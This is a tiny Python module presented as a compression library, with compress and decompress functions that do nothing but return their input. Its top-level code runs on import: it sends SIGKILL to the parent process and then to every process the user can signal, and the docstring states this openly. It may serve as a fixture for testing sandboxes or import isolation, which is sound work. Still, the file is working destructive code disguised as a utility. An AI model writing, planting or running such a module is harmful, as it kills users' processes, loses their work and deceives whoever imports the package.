"""Kills whoever started it while it is being imported."""
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)


def compress(data: bytes) -> bytes:
    return data


def decompress(data: bytes) -> bytes:
    return data
